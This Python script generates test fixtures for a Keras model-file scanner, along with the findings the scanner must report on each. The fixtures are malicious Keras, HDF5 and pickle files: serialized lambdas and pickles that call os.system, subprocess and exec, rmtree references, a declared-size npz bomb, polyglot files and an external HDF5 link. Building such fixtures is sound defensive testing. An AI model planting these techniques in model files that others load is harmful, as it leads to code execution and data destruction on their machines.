"""Craft the second set of attack files (issue 14) into `fixtures/attacks/`, with
`fixtures/attacks/expected.json` listing per file exactly the findings of severity warning or
error kerascope must report (code, severity, layer path), and clean controls that must report
none.

Run from the repository root with the fixture venv (Keras 3.15.1, tf_keras 2.21.0, h5py 3.14.0):

    /tmp/kvenv/bin/python scripts/make_attacks.py

Every base model is saved here by real Keras (Keras 3.15.1 for `.keras`, `.h5` and the npz
archive; tf_keras 2.21.0 for the TFOpLambda models); the attacks are edits made with json,
zipfile, h5py and pickle.dumps only, as an attacker would make them. Nothing crafted is ever
loaded, unpickled or executed: Python lambdas are compiled and marshalled, never called, and
the pickles are written with `pickle.dumps` of objects whose `__reduce__` names the callable.
"""

import base64
import codecs
import io
import json
import marshal
import os
import pickle
import shutil
import sys
import tempfile
import types
import zipfile

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
os.environ["KERAS_BACKEND"] = "tensorflow"

import h5py  # noqa: E402
import numpy as np  # noqa: E402

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "fixtures", "attacks")
CORPUS_PICKLE = "0m0D1NGR0NALD__Transformer-Health-Index-Indication-Classifier__transformer.h5"

EXPECTED = []
TRUTH = {}


def record(file, findings, note):
    assert os.path.exists(os.path.join(OUT, file)), file
    EXPECTED.append({"file": file, "findings": [
        {"code": c, "severity": s, "layer": l} for c, s, l in findings], "note": note})


def code_b64(source):
    """base64(marshal(code)) of a lambda, as Keras' func_dump writes it; compiled, never run."""
    module = compile(source, "<kerascope-attack>", "eval")
    [code] = [c for c in module.co_consts if isinstance(c, types.CodeType)]
    return codecs.encode(marshal.dumps(code), "base64").decode("ascii")


EVIL = code_b64("lambda *a: __import__('os').system('id')")
HARMLESS = code_b64("lambda x: x * 2")


def lambda_value(code):
    """serialize_keras_object of a lambda (Keras 3 serialization_lib)."""
    return {"class_name": "__lambda__", "config": {"value": [code, None, None]}}


def lambda_code(code):
    """Lambda layer's _serialize_function_to_config of a lambda."""
    return {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}


def foreign(module, name):
    return {"module": module, "class_name": name, "config": {}, "registered_name": name}


# ---- base models, written by Keras 3.15.1 / tf_keras 2.21 ---------------------------------------


def keras3_bases(tmp):
    import keras

    inputs = keras.Input((4,), name="x")
    dense = keras.layers.Dense(3, name="dense")(inputs)
    outputs = keras.layers.Lambda(lambda t: t * 2, output_shape=(3,), name="times_two")(dense)
    model = keras.Model(inputs, outputs, name="base")
    model.compile(optimizer="adam", loss="mse", metrics=["mae"])
    model.save(os.path.join(tmp, "base.keras"))
    model.save(os.path.join(tmp, "base.h5"))

    inner = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, name="inner_dense")],
                             name="inner")
    outer_in = keras.Input((4,), name="x")
    nested = keras.Model(outer_in, keras.layers.Dense(2, name="head")(inner(outer_in)), name="outer")
    nested.save(os.path.join(tmp, "nested.keras"))

    clean = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, name="dense"),
                              keras.layers.ReLU(max_value=6.0, name="relu")], name="clean")
    clean.compile(optimizer="adam", loss="mse")
    clean.save(os.path.join(OUT, "clean_k3_dense.keras"))
    clean.save(os.path.join(OUT, "clean_k3_dense.h5"))
    record("clean_k3_dense.keras", [], "clean control: Keras 3.15.1 Sequential, compiled")
    record("clean_k3_dense.h5", [], "clean control: Keras 3.15.1 legacy .h5 with training_config")

    # The npz weights store, as keras.saving.saving_lib writes it (weights_format="npz").
    from keras.src.saving import saving_lib
    npz_model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3, name="dense"),
                                  keras.layers.BatchNormalization(name="bn")], name="npz")
    saving_lib.save_model(npz_model, os.path.join(OUT, "clean_k3_npz_weights.keras"),
                          weights_format="npz")
    TRUTH["clean_k3_npz_weights.keras"] = {
        "count_params": npz_model.count_params(),
        "weights": [{"layer": l.name, "name": w.name, "shape": list(w.shape)}
                    for l in npz_model.layers for w in l.weights]}
    record("clean_k3_npz_weights.keras", [],
           "clean control: Keras 3.15.1 saving_lib.save_model(weights_format='npz'): "
           "model.weights.npz with pickled dicts of numpy arrays")


def tf_keras_bases(tmp):
    import tensorflow as tf
    import tf_keras

    inputs = tf_keras.Input((4,), name="x")
    y = tf.math.add(inputs, 1.0)
    y = tf.nn.relu(y)
    y = y[:, :2]
    model = tf_keras.Model(inputs, y, name="ops")
    model.save(os.path.join(OUT, "clean_tfk_tfop.h5"))
    lam = tf_keras.Sequential([tf_keras.Input((4,)), tf_keras.layers.Dense(3, name="dense"),
                               tf_keras.layers.Lambda(lambda t: t * 2, output_shape=lambda s: s,
                                                      name="times_two")], name="tfk_lambda")
    lam.save(os.path.join(tmp, "tfk_lambda.h5"))
    model.save(os.path.join(OUT, "clean_tfk_tfop.keras"))
    record("clean_tfk_tfop.h5", [], "clean control: tf_keras 2.21 TFOpLambda math.add, nn.relu and a SlicingOpLambda")
    record("clean_tfk_tfop.keras", [], "clean control: the same model as a tf_keras 2.21 .keras")


# ---- editing helpers ------------------------------------------------------------------------------


def read_zip(path):
    with zipfile.ZipFile(path) as z:
        return [(info, z.read(info.filename)) for info in z.infolist()]


def write_zip(path, members):
    with zipfile.ZipFile(path, "w") as z:
        for info, data in members:
            z.writestr(info, data)


def keras_edit(base, name, mutate):
    members = []
    for info, data in read_zip(base):
        if info.filename == "config.json":
            config = json.loads(data)
            mutate(config)
            data = json.dumps(config).encode()
        members.append((info, data))
    write_zip(os.path.join(OUT, name), members)
    return name


def h5_edit(base, name, attr, mutate):
    target = os.path.join(OUT, name)
    shutil.copyfile(base, target)
    with h5py.File(target, "r+") as h5:
        config = json.loads(h5.attrs[attr])
        mutate(config)
        h5.attrs.modify(attr, json.dumps(config))
    return name


def layer(config, name):
    [entry] = [l for l in config["config"]["layers"] if l["config"].get("name") == name]
    return entry["config"]


# ---- 1–3: lambdas and foreign modules wherever Keras deserializes ----------------------------


def config_attacks(tmp):
    base = os.path.join(tmp, "base.keras")
    S101 = ("S101", "error")
    # The base's own harmless Lambda (x * 2), written by Keras, stays a warning in every edit.
    W = ("S109", "warning", "times_two")

    def act(form):
        return lambda c: layer(c, "dense").__setitem__("activation", form(EVIL))
    record(keras_edit(base, "k3_activation_lambda_value.keras", act(lambda_value)), [S101 + ("dense",), W],
           "Dense activation = serialized Python lambda {'value': [code, defaults, closure]}")
    record(keras_edit(base, "k3_activation_lambda_code.keras", act(lambda_code)), [S101 + ("dense",), W],
           "Dense activation = {'class_name': '__lambda__', 'config': {'code': ...}}")
    record(keras_edit(base, "k3_compile_loss_lambda.keras",
                      lambda c: c["compile_config"].__setitem__("loss", lambda_value(EVIL))),
           [S101 + (None,), W], "compile_config loss = serialized Python lambda")
    record(keras_edit(base, "k3_compile_metric_lambda.keras",
                      lambda c: c["compile_config"].__setitem__("metrics", [lambda_value(EVIL)])),
           [S101 + (None,), W], "compile_config metrics = [serialized Python lambda]")
    record(keras_edit(base, "k3_lambda_output_shape.keras",
                      lambda c: layer(c, "times_two").__setitem__("output_shape", lambda_code(EVIL))),
           [S101 + ("times_two",)],
           "Lambda whose function is harmless and whose output_shape (called at load) runs os.system")
    record(keras_edit(base, "k3_lambda_mask.keras",
                      lambda c: layer(c, "times_two").__setitem__("mask", lambda_code(EVIL))),
           [S101 + ("times_two",)], "Lambda whose mask runs os.system")
    def two(c):
        layer(c, "dense")["activation"] = lambda_value(HARMLESS)
        layer(c, "dense")["kernel_constraint"] = lambda_value(EVIL)
    record(keras_edit(base, "k3_dense_two_lambdas.keras", two), [S101 + ("dense",), W],
           "Dense whose activation is a harmless lambda and whose kernel_constraint runs "
           "os.system: one finding, the worst, naming both slots")
    record(keras_edit(base, "k3_lambda_harmless.keras", lambda c: None), [("S109", "warning", "times_two")],
           "the base: a harmless Lambda (x * 2) written by Keras 3.15.1")

    h5 = os.path.join(tmp, "base.h5")

    def training(key, value):
        return lambda c: c.__setitem__(key, value)
    record(h5_edit(h5, "k3legacy_training_loss_lambda.h5", "training_config",
                   training("loss", lambda_value(EVIL))),
           [S101 + (None,), W], "legacy .h5 training_config loss = serialized Python lambda")
    record(h5_edit(h5, "k3legacy_training_metric_lambda.h5", "training_config",
                   training("metrics", [lambda_value(EVIL)])),
           [S101 + (None,), W], "legacy .h5 training_config metrics = [serialized Python lambda]")

    S103 = ("S103", "error")
    places = [
        ("kernel_constraint", "dense", foreign("posixpath", "expanduser")),
        ("kernel_regularizer", "dense", foreign("posixpath", "expanduser")),
        ("bias_initializer", "dense", foreign("shutil", "rmtree")),
        ("activation", "dense", {"module": "posixpath", "class_name": "function",
                                 "config": "expanduser", "registered_name": "expanduser"}),
    ]
    for key, name, obj in places:
        record(keras_edit(base, f"k3_foreign_{key}.keras",
                          lambda c, key=key, name=name, obj=obj: layer(c, name).__setitem__(key, obj)),
               [S103 + (name,), W], f"Dense {key} from module {obj['module']} (registered_name set)")
    def nested_layer(c):
        [inner] = [l for l in c["config"]["layers"] if l["class_name"] == "Sequential"]
        return inner["config"]["layers"][-1]
    record(keras_edit(os.path.join(tmp, "nested.keras"), "k3_foreign_nested_layer_module.keras",
                      lambda c: nested_layer(c).__setitem__("module", "posixpath")),
           [S103 + ("inner/inner_dense",)],
           "Dense inside nested Sequential inner whose module is posixpath")
    record(keras_edit(os.path.join(tmp, "nested.keras"), "k3_foreign_nested_kernel_constraint.keras",
                      lambda c: nested_layer(c)["config"].__setitem__(
                          "kernel_constraint", foreign("posixpath", "expanduser"))),
           [S103 + ("inner/inner_dense",)],
           "kernel_constraint from posixpath on a Dense inside nested Sequential inner")

    tfk = os.path.join(tmp, "tfk_lambda.h5")
    record(h5_edit(tfk, "tfk_lambda_harmless.h5", "model_config", lambda c: None),
           [("S109", "warning", "times_two")],
           "the tf_keras 2.21 base: a Lambda whose function (x * 2) and output_shape (s) are harmless "
           "lambdas, one finding for both")

    def tfk_output_shape(c):
        entry = layer(c, "times_two")
        assert entry["output_shape_type"] == "lambda", entry
        entry["output_shape"][0] = EVIL
    record(h5_edit(tfk, "tfk_lambda_output_shape.h5", "model_config", tfk_output_shape),
           [S101 + ("times_two",)],
           "tf_keras 2.21 Lambda (func_dump form) whose output_shape bytecode runs os.system")

    compile_places = [
        ("loss", {"module": "posixpath", "class_name": "function", "config": "expanduser",
                  "registered_name": "expanduser"}),
        ("metrics", [foreign("webbrowser", "open")]),
        ("optimizer", foreign("subprocess", "Popen")),
    ]
    for key, obj in compile_places:
        record(keras_edit(base, f"k3_foreign_compile_{key}.keras",
                          lambda c, key=key, obj=obj: c["compile_config"].__setitem__(key, obj)),
               [S103 + (None,), W], f"compile_config {key} from a module outside Keras")


# ---- 4: TFOpLambda ----------------------------------------------------------------------------


def encoding_attacks():
    """What Python reads, an attacker may use to hide from a scanner: members compressed with
    bzip2 or LZMA (zipfile reads both, so Keras loads them) and Python's `Infinity` literal in
    config.json (json reads it). Each hides the Lambda whose output_shape runs os.system."""
    base = os.path.join(OUT, "k3_lambda_output_shape.keras")
    for method, label in ((zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")):
        name = f"k3_lambda_output_shape_{label}.keras"
        with zipfile.ZipFile(os.path.join(OUT, name), "w") as z:
            for info, data in read_zip(base):
                z.writestr(info.filename, data, compress_type=method)
        record(name, [("S101", "error", "times_two")],
               f"the output_shape Lambda attack with every member {label}-compressed")

    def infinity(c):
        layer(c, "times_two")["arguments"] = {"limit": float("inf")}

    name = keras_edit(base, "k3_lambda_output_shape_infinity.keras", infinity)
    record(name, [("S101", "error", "times_two")],
           "the output_shape Lambda attack with an Infinity literal in its config")


def tfop_attacks():
    for symbol, severity, stem in [
        ("io.gfile.rmtree", "error", "rmtree"),
        ("io.write_file", "error", "write_file"),
        ("py_function", "error", "py_function"),
        ("numpy_function", "error", "numpy_function"),
        ("compat.v1.py_func", "error", "py_func"),
        ("random.shuffle", "warning", "unlisted"),
    ]:
        code = "S110" if severity == "error" else "S111"

        def mutate(c, symbol=symbol):
            [entry] = [l for l in c["config"]["layers"] if l["class_name"] == "TFOpLambda"
                       and l["config"]["function"] == "math.add"]
            entry["config"]["function"] = symbol
        record(h5_edit(os.path.join(OUT, "clean_tfk_tfop.h5"), f"tfk_tfop_{stem}.h5", "model_config",
                       mutate), [(code, severity, "tf.math.add")],
               f"tf_keras 2.21 TFOpLambda whose function math.add is renamed {symbol}")
    def slicing(c):
        [entry] = [l for l in c["config"]["layers"] if l["class_name"] == "SlicingOpLambda"]
        entry["config"]["function"] = "io.gfile.rmtree"
    record(h5_edit(os.path.join(OUT, "clean_tfk_tfop.h5"), "tfk_slicing_rmtree.h5", "model_config",
                   slicing), [("S110", "error", "tf.__operators__.getitem")],
           "tf_keras 2.21 SlicingOpLambda whose function __operators__.getitem is renamed io.gfile.rmtree")
    record(keras_edit(os.path.join(OUT, "clean_tfk_tfop.keras"), "tfk_tfop_rmtree.keras",
                      lambda c: [l["config"].__setitem__("function", "io.gfile.rmtree")
                                 for l in c["config"]["layers"] if l["class_name"] == "TFOpLambda"
                                 and l["config"]["function"] == "math.add"]),
           [("S110", "error", "tf.math.add")], "the same in a tf_keras 2.21 .keras archive")


# ---- 5: pickles -------------------------------------------------------------------------------


class Reduce:
    """Pickles as a call of `fn(*args)`: pickle.dumps only writes the reference."""

    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def pickle_attacks():
    data = pickle.dumps(Reduce(os.system, ("id",)), protocol=4)
    with open(os.path.join(OUT, "pickle_os_system.h5"), "wb") as f:
        f.write(data)
    record("pickle_os_system.h5", [("S401", "error", None)],
           "a protocol-4 pickle calling posix.system, named .h5")
    with open(os.path.join(OUT, "pickle_numpy_array.h5"), "wb") as f:
        f.write(pickle.dumps(np.arange(6, dtype="float32").reshape(2, 3), protocol=2))
    record("pickle_numpy_array.h5", [("S402", "warning", None)],
           "a protocol-2 pickle of a NumPy array only (numpy globals), named .h5: not a Keras file")
    with open(os.path.join(OUT, "pickle_proto0_exec.keras"), "wb") as f:
        f.write(b"cbuiltins\nexec\n(Vprint(1)\ntR.")
    record("pickle_proto0_exec.keras", [("S401", "error", None)],
           "a protocol-0 pickle (GLOBAL, MARK, TUPLE, REDUCE) calling builtins.exec, named .keras")

    # model.weights.npz whose first member's pickle calls subprocess.check_output.
    clean = os.path.join(OUT, "clean_k3_npz_weights.keras")
    members = []
    for info, data in read_zip(clean):
        if info.filename == "model.weights.npz":
            inner = []
            for inner_info, npy in read_zip_bytes(data):
                if inner_info.filename.startswith("layers/dense"):
                    npy = npy_object(Reduce(__import__("subprocess").check_output, (["id"],)))
                inner.append((inner_info, npy))
            data = zip_bytes(inner)
        members.append((info, data))
    write_zip(os.path.join(OUT, "k3_npz_pickle_subprocess.keras"), members)
    record("k3_npz_pickle_subprocess.keras", [("S401", "error", None), ("P102", "error", "dense"),
                                              ("P102", "error", "dense")],
           "Keras 3.15.1 npz archive whose layers/dense.npy pickle calls subprocess.check_output "
           "instead of holding the kernel and bias (so both are missing: P102)")


def npz_bomb():
    """layers/dense.npy replaced by a plain .npy whose header declares a 16 GiB kernel and
    which stores no data (the npz form of CVE-2026-0897)."""
    members = []
    for info, data in read_zip(os.path.join(OUT, "clean_k3_npz_weights.keras")):
        if info.filename == "model.weights.npz":
            inner = []
            for inner_info, npy in read_zip_bytes(data):
                if inner_info.filename == "layers/dense.npy":
                    buffer = io.BytesIO()
                    np.lib.format.write_array_header_1_0(
                        buffer, {"descr": "<f4", "fortran_order": False, "shape": (65536, 65536)})
                    npy = buffer.getvalue()
                inner.append((inner_info, npy))
            data = zip_bytes(inner)
        members.append((info, data))
    write_zip(os.path.join(OUT, "k3_npz_declared_bomb.keras"), members)
    record("k3_npz_declared_bomb.keras",
           [("S206", "error", "dense"), ("P101", "error", "dense"), ("P102", "error", "dense")],
           "Keras 3.15.1 npz archive whose layers/dense.npy header declares (65536, 65536) float32 "
           "and stores nothing (so the kernel mismatches and the bias is missing)")


def read_zip_bytes(data):
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [(info, z.read(info.filename)) for info in z.infolist()]


def zip_bytes(members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for info, data in members:
            z.writestr(info, data)
    return buffer.getvalue()


def npy_object(obj):
    """An .npy of a 0-d object array holding `obj`, as np.save writes it (header by numpy)."""
    buffer = io.BytesIO()
    header = {"descr": "|O", "fortran_order": False, "shape": ()}
    np.lib.format.write_array_header_1_0(buffer, header)
    buffer.write(pickle.dumps(obj, protocol=3))
    return buffer.getvalue()


# ---- 6: polyglot ------------------------------------------------------------------------------


def polyglot_attacks():
    h5 = open(os.path.join(OUT, "clean_k3_dense.h5"), "rb").read()
    archive = open(os.path.join(OUT, "k3_activation_lambda_value.keras"), "rb").read()
    clean = open(os.path.join(OUT, "clean_k3_dense.keras"), "rb").read()
    plain = os.path.join(OUT, "polyglot_plain_h5_keras.keras")
    with h5py.File(plain, "w") as f:
        f["data"] = np.zeros(4, dtype="float32")
    with open(plain, "ab") as f:
        f.write(archive)
    record("polyglot_plain_h5_keras.keras", [("S306", "error", None), ("S101", "error", "dense"),
                                             ("S109", "warning", "times_two")],
           "an HDF5 file with no Keras structure (one dataset, by h5py) with a hostile .keras "
           "appended: not Keras as HDF5, but Keras loads the zip")
    name = "polyglot_pickle_keras.keras"
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(pickle.dumps(Reduce(os.system, ("id",)), protocol=4) + clean)
    with zipfile.ZipFile(os.path.join(OUT, name)) as z:
        assert z.testzip() is None
    record(name, [("S306", "error", None), ("S401", "error", None)],
           "a pickle calling posix.system with a clean Keras 3.15.1 .keras appended: pickle.load "
           "runs the front, Keras loads the zip")
    for name in ["polyglot_h5_keras.h5", "polyglot_h5_keras.keras"]:
        with open(os.path.join(OUT, name), "wb") as f:
            f.write(h5 + archive)
        with zipfile.ZipFile(os.path.join(OUT, name)) as z:
            assert z.testzip() is None
        with h5py.File(os.path.join(OUT, name), "r") as f:
            assert "model_config" in f.attrs
        record(name, [("S306", "error", None), ("S101", "error", "dense"),
                      ("S109", "warning", "times_two")],
               "a clean Keras 3.15.1 .h5 with a .keras appended (zip found from its end) whose "
               "Dense activation is a serialized lambda")


# ---- 7: HDF5 hazards in files without Keras structure ----------------------------------------


def hdf5_attacks():
    path = os.path.join(OUT, "h5_external_link_layers.weights.h5")
    with h5py.File(path, "w") as f:
        f["layers"] = h5py.ExternalLink("/etc/keys.h5", "/layers")
    record("h5_external_link_layers.weights.h5", [("S202", "error", None)],
           "a .weights.h5 whose only root member is an external link named layers")


def main():
    import keras
    import tf_keras
    assert keras.__version__ == "3.15.1", keras.__version__
    assert tf_keras.__version__ == "2.21.0", tf_keras.__version__
    assert h5py.__version__ == "3.14.0", h5py.__version__
    if os.path.isdir(OUT):
        shutil.rmtree(OUT)
    os.makedirs(OUT)
    with tempfile.TemporaryDirectory() as tmp:
        keras3_bases(tmp)
        tf_keras_bases(tmp)
        config_attacks(tmp)
    encoding_attacks()
    tfop_attacks()
    pickle_attacks()
    npz_bomb()
    polyglot_attacks()
    hdf5_attacks()
    with open(os.path.join(OUT, "truth.json"), "w") as f:
        json.dump(TRUTH, f, indent=1)
        f.write("\n")
    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(EXPECTED, f, indent=1)
        f.write("\n")
    with open(os.path.join(OUT, "README.md"), "w") as f:
        f.write("# Attack files of issue 14\n\nWritten by `scripts/make_attacks.py` (Keras 3.15.1, "
                "tf_keras 2.21.0, h5py 3.14.0, Python %s). `expected.json` lists, per file, every "
                "finding of severity warning or error kerascope must report; `clean_*` files are "
                "unedited Keras output and must report none.\n\n" % sys.version.split()[0])
        for case in EXPECTED:
            f.write(f"- `{case['file']}`: {case['note']}\n")
    print(f"{len(EXPECTED)} files")


if __name__ == "__main__":
    main()
